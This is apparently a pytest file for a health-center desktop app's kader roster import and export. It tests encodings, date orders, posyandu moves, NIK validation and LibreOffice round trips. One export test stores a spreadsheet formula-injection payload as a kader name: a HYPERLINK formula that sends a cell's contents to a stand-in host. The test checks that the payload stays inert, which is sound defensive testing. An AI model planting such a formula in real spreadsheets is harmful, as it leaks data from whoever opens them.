"""The cases issue 21 measured, each tried as an office would meet it: nothing dropped silently, encodings and
date orders, moves as a decision, every error in one pass, one set of kader rules, inert exports, exact round
trips (also through LibreOffice)."""

import csv
import datetime as dt
import io
import shutil
import subprocess

import openpyxl
import pytest

from desktop.cli import run
from desktop.models.kader_history import ClassificationAssessment, TrainingRecord
from desktop.models.people import Kader, Posyandu
from desktop.models.schedule import FollowUp
from desktop.models.settings import current_puskesmas
from desktop.services import kader_service, roster_import
from desktop.services.roster_import import RosterError

TODAY = dt.date(2026, 11, 24)
HYPERLINK = '=HYPERLINK("http://contoh.invalid/?d="&B2,"Klik")'


def _xlsx(path, header, rows):
    book = openpyxl.Workbook()
    book.active.append(header)
    for row in rows:
        book.active.append(row)
    book.save(path)
    return path


def _csv(path, header, rows, encoding="utf-8", delimiter=";"):
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter, lineterminator="\r\n").writerows([header, *rows])
    path.write_bytes(text.getvalue().encode(encoding))
    return path


def _state():
    """Everything an import could change, by kader id."""
    trainings = {}
    for t in TrainingRecord.select().order_by(TrainingRecord.id):
        trainings.setdefault(t.kader_id, []).append((t.batch, t.certificate_date, t.online_progress))
    return {k.id: (k.name, k.nik, k.phone, k.sex, k.birth_date, k.posyandu_id, k.start_year, k.training_status,
                   k.classification, k.classification_date, k.active, tuple(trainings.get(k.id, ())))
            for k in Kader.select()}, ClassificationAssessment.select().count(), FollowUp.select().count()


def test_classification_and_unused_columns_are_not_dropped(demo_db, tmp_path, capsys):
    path = _xlsx(tmp_path / "kantor.xlsx",
                 ["Nama Kader", "Nama Posyandu", "Klasifikasi", "Tanggal Klasifikasi", "RT", "Keterangan"],
                 [["Ani Lestari", "Melati 1", "Madya", "12/08/2025", "03", "ketua"],
                  ["Budi Santoso", "Melati 1", "purwa", "", "04", ""],
                  ["Citra Dewi", "Melati 1", "", "", "05", "baru"]])
    plan = roster_import.check(roster_import.read_roster(path), current_puskesmas(), today=TODAY)
    assert plan.problems == [] and plan.unused == ["RT", "Keterangan"]
    assert "Kolom tidak dipakai (tidak diimpor): RT, Keterangan." in plan.details()
    roster_import.apply(plan)
    ani, budi, citra = (Kader.get(Kader.name == n) for n in ("Ani Lestari", "Budi Santoso", "Citra Dewi"))
    assert (ani.classification, ani.classification_date) == ("madya", dt.date(2025, 8, 12))
    assert (budi.classification, budi.classification_date, citra.classification) == ("purwa", None, None)
    fact = ClassificationAssessment.get(ClassificationAssessment.kader == ani)
    assert (fact.level, fact.assessed_on, fact.source) == ("madya", dt.date(2025, 8, 12), "impor daftar")
    assert ClassificationAssessment.get(ClassificationAssessment.kader == budi).source.startswith("impor daftar")
    out = tmp_path / "ekspor.xlsx"
    roster_import.export_roster(out, current_puskesmas())
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    assert {"Klasifikasi", "Tanggal Klasifikasi", "Angkatan Pelatihan", "Tanggal Sertifikat"} <= set(header)
    row = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] == "Ani Lestari")
    assert row[header.index("Klasifikasi")] == "Madya"
    assert row[header.index("Tanggal Klasifikasi")].date() == dt.date(2025, 8, 12)
    assert run(["--db", str(demo_db), "import", "roster", str(path)]) == 0
    assert "Kolom tidak dipakai (tidak diimpor): RT, Keterangan." in capsys.readouterr().out


def test_windows_1252_semicolon_csv_keeps_its_letters(demo_db, tmp_path):
    path = _csv(tmp_path / "windows.csv", ["Nama Kader", "Nama Posyandu", "Tanggal Lahir"],
                [["Wédari Ñurhayati", "Melati 1", "25/03/1985"], ["Siti Çahaya", "Melati 1", "02/11/1990"]],
                encoding="cp1252")
    roster_import.import_file(path, current_puskesmas())
    assert Kader.get(Kader.name == "Wédari Ñurhayati").birth_date == dt.date(1985, 3, 25)
    assert Kader.get(Kader.name == "Siti Çahaya").birth_date == dt.date(1990, 11, 2)
    assert not Kader.select().where(Kader.name.contains("\ufffd")).exists()


def test_english_locale_dates_are_read_month_first_and_mixed_columns_refused(demo_db, tmp_path):
    english = _csv(tmp_path / "inggris.csv", ["Nama Kader", "Nama Posyandu", "Tanggal Lahir"],
                   [["Ani", "Melati 1", "3/25/1985"], ["Budi", "Melati 1", "11/2/1990"]], delimiter=",")
    plan = roster_import.check(roster_import.read_roster(english), current_puskesmas(), today=TODAY)
    assert plan.problems == [] and [r.birth_date for r in plan.rows] == [dt.date(1985, 3, 25), dt.date(1990, 11, 2)]
    assert any("dibaca sebagai bulan/hari/tahun" in n and "baris 2" in n for n in plan.notes)
    mixed = _csv(tmp_path / "campur.csv", ["Nama Kader", "Nama Posyandu", "Tanggal Lahir"],
                 [["Ani", "Melati 1", "25/03/1985"], ["Budi", "Melati 1", "11/02/1990"], ["Citra", "Melati 1",
                                                                                         "03/25/1986"]])
    before = _state()
    with pytest.raises(RosterError) as error:
        roster_import.import_file(mixed, current_puskesmas())
    assert any("hari/bulan/tahun (baris 2)" in p and "bulan/hari/tahun (baris 4)" in p for p in error.value.problems)
    assert _state() == before


def test_a_move_is_a_decision_and_open_follow_ups_go_along(demo_db, tmp_path, capsys):
    kader = Kader.get_by_id(FollowUp.select(FollowUp.kader).where(FollowUp.kader.is_null(False),
                                                                  FollowUp.status == "terbuka").scalar())
    target = Posyandu.select().where(Posyandu.id != kader.posyandu_id).first()
    open_ids = [f.id for f in FollowUp.select().where(FollowUp.kader == kader, FollowUp.status == "terbuka")]
    closed = {f.id: f.posyandu_id for f in FollowUp.select().where(FollowUp.kader == kader,
                                                                    FollowUp.status != "terbuka")}
    path = _xlsx(tmp_path / "satu.xlsx", ["Nama Kader", "NIK", "Nama Posyandu", "Desa/Kel"],
                 [[kader.name, kader.nik, target.name, target.desa.name]])
    before = _state()
    plan = roster_import.check(roster_import.read_roster(path), current_puskesmas(), today=TODAY)
    assert [r.action for r in plan.rows] == ["pindah"] and len(plan.moves) == 1
    assert "Centang “Izinkan kader pindah posyandu”" in plan.problems[0]
    assert f"{len(open_ids)} tindak lanjut terbuka tentang dia ikut pindah" in plan.problems[0]
    assert run(["--db", str(demo_db), "import", "roster", str(path)]) == 1
    assert "Tambahkan opsi --pindah" in capsys.readouterr().err and _state() == before
    assert run(["--db", str(demo_db), "import", "roster", str(path), "--pindah"]) == 0
    out = capsys.readouterr().out
    assert "1 kader pindah posyandu" in out and f"pindah dari Posyandu {kader.posyandu.name}" in out
    assert Kader.get_by_id(kader.id).posyandu_id == target.id
    assert {f.posyandu_id for f in FollowUp.select().where(FollowUp.id.in_(open_ids))} == {target.id}
    assert {f.id: f.posyandu_id for f in FollowUp.select().where(FollowUp.id.in_(list(closed)))} == closed


def test_every_problem_in_one_pass_and_cli_names_its_options(demo_db, tmp_path, capsys):
    existing = Kader.select().where(Kader.nik.is_null(False)).first()
    path = _xlsx(tmp_path / "semua.xlsx", ["Nama Kader", "NIK", "Nama Posyandu", "Tanggal Lahir"], [
        ["Ani", "3216014503850001", "Melati 1", "31/02/1985"],  # a row error
        ["Budi", "3216014503850001", "Melati 1", ""],  # the same NIK as the row with an error
        ["Citra", "", "Posyandu Tidak Ada", ""],  # an unknown posyandu
        ["Dewi", existing.nik, "Melati 1" if existing.posyandu.name != "Melati 1" else "Mawar 1", ""],  # a move
    ])
    assert run(["--db", str(demo_db), "import", "roster", str(path)]) == 1
    err = capsys.readouterr().err
    for part in ("Baris 2, kolom Tanggal Lahir: '31/02/1985' bukan tanggal", "Baris 3: NIK 3216********0001 sama "
                 "dengan baris 2", "Baris 4: Posyandu Tidak Ada belum tercatat. Tambahkan opsi --buat-baru",
                 "Baris 5: ", "Tambahkan opsi --pindah"):
        assert part in err, part
    assert "Centang" not in err


def test_one_set_of_kader_rules_for_dialog_and_import(demo_db, tmp_path):
    from desktop.services.kader_service import KaderForm

    melati = Posyandu.get(Posyandu.name == "Melati 1")
    typed = kader_service.save_kader(KaderForm(posyandu_id=melati.id, name="Dialog Satu", phone="81234567890"))
    path = _xlsx(tmp_path / "hp.xlsx", ["Nama Kader", "Nama Posyandu", "No. HP/WA"],
                 [["Impor Satu", "Melati 1", 81234567891]])
    roster_import.import_file(path, current_puskesmas())
    assert typed.phone == "081234567890" and Kader.get(Kader.name == "Impor Satu").phone == "081234567891"
    fullwidth = "３２１６０１４５０３８５０００１"
    for form, words in ((KaderForm(posyandu_id=melati.id, name="X", nik=fullwidth), "angka selain 0–9"),
                        (KaderForm(posyandu_id=melati.id, name="\u200b"), "Nama kader wajib diisi"),
                        (KaderForm(posyandu_id=melati.id, name="x" * 101), "terlalu panjang"),
                        (KaderForm(posyandu_id=melati.id, name="X", nik="0000000000000000"), "kode provinsi"),
                        (KaderForm(posyandu_id=melati.id, name="X", phone="abc"), "bukan nomor HP")):
        with pytest.raises(kader_service.UserError, match=words):
            kader_service.save_kader(form)


def test_unicode_and_control_character_traps_are_refused_or_cleaned(demo_db, tmp_path):
    existing = Kader.select().where(Kader.nik.is_null(False)).first()
    twin = existing.nik.translate(str.maketrans("0123456789", "０１２３４５６７８９"))
    path = _xlsx(tmp_path / "jebakan.xlsx", ["Nama Kader", "NIK", "Nama Posyandu", "Tanggal Lahir"], [
        ["Kembar Lebar", twin, "Melati 1", ""],
        ["Arab", "٣٢١٦٠١٤٥٠٣٨٥٠٠٠١", "Melati 1", ""],
        ["Nol", "0000000000000000", "Melati 1", ""],
        ["Hari 99", "3216019903850001", "Melati 1", ""],
        ["Siti Aminah", "", "Melati 1", "05/03/1985"],
        ["Siti \u200bAminah", "", "Melati 1", "05/03/1985"],
        ["\u200b", "", "Melati 1", ""],
        ["x" * 10_000, "", "Melati 1", ""],
    ])
    before = _state()
    with pytest.raises(RosterError) as error:
        roster_import.import_file(path, current_puskesmas())
    problems = error.value.problems
    for part in ("Baris 2, kolom NIK: NIK hanya boleh berisi angka 0–9", "Baris 3, kolom NIK: NIK hanya boleh",
                 "Baris 4, kolom NIK: NIK 00…: dua angka pertama bukan kode provinsi",
                 "Baris 5, kolom NIK: NIK: tanggal lahir (angka ke-7 dan ke-8) '99'",
                 "Baris 7: Siti Aminah di Posyandu Melati 1 dengan tanggal lahir yang sama sudah ada di baris 6",
                 "Baris 8, kolom Nama Kader: nama kader kosong",
                 "Baris 9, kolom Nama Kader: nama kader terlalu panjang (10000 karakter; paling banyak 100)"):
        assert any(p.startswith(part) for p in problems), (part, problems)
    assert _state() == before
    # NUL and control characters are dropped, so the export and the templates still work
    clean = _csv(tmp_path / "kontrol.csv", ["Nama Kader", "Nama Posyandu"], [["Ani\x07 Lest\x1bari", "Melati 1"]])
    roster_import.import_file(clean, current_puskesmas())
    assert Kader.get(Kader.name == "Ani Lestari")
    roster_import.export_roster(tmp_path / "ekspor.xlsx", current_puskesmas())
    roster_import.template(tmp_path / "templat.xlsx", current_puskesmas())
    nul = tmp_path / "nul.csv"
    nul.write_bytes("Nama Kader;Nama Posyandu\r\nRina\x00 Wati;Melati 1\r\nSiti\u2028Rahma;Melati 1\r\nTia;Mawar 9\r\n"
                    .encode())
    with pytest.raises(RosterError) as error:
        roster_import.import_file(nul, current_puskesmas())
    assert error.value.problems == ["Baris 4: Posyandu Mawar 9 belum tercatat. Centang “Buat posyandu/desa yang "
                                    "belum tercatat” atau perbaiki namanya."]  # U+2028 did not shift the rows


def _inert(path, sheet=None):
    book = openpyxl.load_workbook(path)
    found = []
    for ws in ([book[sheet]] if sheet else book.worksheets):
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    found.append((cell.value, cell.data_type, cell.quotePrefix))
    return found


def test_exports_are_inert_and_the_round_trip_is_exact(demo_db, tmp_path):
    from desktop.instruments.loader import load_instrument
    from desktop.services import report_data, responses_import

    kader = Kader.select().where(Kader.active).first()
    kader.name = HYPERLINK
    kader.save()
    other = Kader.select().where(Kader.active, Kader.id != kader.id).first()
    other.name = "@SUM(1+1)"
    other.save()
    out = tmp_path / "ekspor.xlsx"
    roster_import.export_roster(out, current_puskesmas())
    cells = _inert(out)
    assert (HYPERLINK, "s", True) in cells and ("@SUM(1+1)", "s", True) in cells and all(
        t == "s" and q for _, t, q in cells)
    template = responses_import.write_template(load_instrument("observasi_individu"), tmp_path / "individu.xlsx")
    assert (HYPERLINK, "s", True) in _inert(template)
    from desktop.models.schedule_rules import parse_month  # noqa: F401 - the report of the demo month
    before = _state()
    plan = roster_import.import_file(out, current_puskesmas())
    assert (plan.creates, plan.updates) == (0, 0) and _state() == before
    assert report_data  # the monthly report writer shares the helper (tested in test_report)


def _soffice(source, target_dir, to):
    if shutil.which("soffice") is None:
        pytest.fail("LibreOffice (soffice) is missing: run ./scripts/test, which installs libreoffice-calc-nogui")
    done = subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{target_dir}/profile",
                           "--convert-to", to, "--outdir", str(target_dir), str(source)],
                          capture_output=True, text=True, timeout=240)
    assert done.returncode == 0, done.stderr


def test_libreoffice_round_trip_changes_nothing(demo_db, tmp_path):
    kader = Kader.select().where(Kader.active).first()
    kader.name = HYPERLINK
    kader.save()
    out = tmp_path / "ekspor.xlsx"
    count = roster_import.export_roster(out, current_puskesmas())
    before = _state()
    for to, name in (("xlsx:Calc MS Excel 2007 XML", "lo.xlsx"), ("ods", "lo.ods"),
                     ("csv:Text - txt - csv (StarCalc):59,34,76,1", "lo.csv")):
        folder = tmp_path / name.replace(".", "_")
        folder.mkdir()
        _soffice(out, folder, to)
        resaved = folder / ("ekspor" + name[2:])
        plan = roster_import.import_file(resaved, current_puskesmas())
        assert (plan.creates, plan.updates, plan.unchanged) == (0, 0, count), (name, plan.summary(), plan.problems)
        assert _state() == before, name


def test_nik_held_elsewhere_name_only_match_and_ages_at_both_ends(demo_db, tmp_path):
    """Among many new rows: a NIK held by a kader of another puskesmas is refused, a row without birth date is the
    only kader of that name at her posyandu (an update, not a duplicate), and birth dates out of 15–90 years are named
    whether they are the earliest, the latest or neither."""
    from desktop.models.wilayah import Desa, Puskesmas

    here = current_puskesmas()
    other = Puskesmas.create(kabupaten=here.kabupaten_id, name="Puskesmas Tetangga")
    desa = Desa.create(kecamatan=Desa.select().first().kecamatan_id, puskesmas=other, name="Desa Tetangga")
    held = Kader.create(posyandu=Posyandu.create(desa=desa, name="Posyandu Tetangga"), name="Kader Tetangga",
                        nik="3216014503850077", phone="", sex="P", training_status="belum")
    known = Kader.select().join(Posyandu).where(Posyandu.name == "Melati 1", Kader.active).first()
    rows = [[f"Kader Baru {n:03d}", f"32160145038{n + 10:05d}", "Melati 1", f"{n % 28 + 1:02d}/03/1985"]
            for n in range(30)]
    rows[3] = ["Kader Sepuh", "", "Melati 1", "01/01/1930"]  # the earliest: 96 years old
    rows[7] = ["Kader Cilik", "", "Melati 1", "01/01/2015"]  # the latest: 11 years old
    rows[12] = ["Kader Pinjam", held.nik, "Melati 1", ""]
    rows[20] = [known.name.upper(), "", "Melati 1", ""]
    path = _xlsx(tmp_path / "banyak.xlsx", ["Nama Kader", "NIK", "Nama Posyandu", "Tanggal Lahir"], rows)
    plan = roster_import.check(roster_import.read_roster(path), here, today=TODAY)
    assert plan.problems == [
        "Baris 5, kolom Tanggal Lahir: 01/01/1930 membuat umur kader di luar 15–90 tahun.",
        "Baris 9, kolom Tanggal Lahir: 01/01/2015 membuat umur kader di luar 15–90 tahun.",
        "Baris 14: NIK 3216********0077 sudah dipakai Kader Tetangga di puskesmas lain atau kader lain."]
    assert plan.matches == {22: known.id}
    rows[3][3], rows[7][3], rows[12][1] = "01/01/1950", "01/01/1995", ""
    path = _xlsx(tmp_path / "banyak.xlsx", ["Nama Kader", "NIK", "Nama Posyandu", "Tanggal Lahir"], rows)
    plan = roster_import.check(roster_import.read_roster(path), here, today=TODAY)
    assert plan.problems == [] and plan.creates == 29 and plan.matches == {22: known.id}
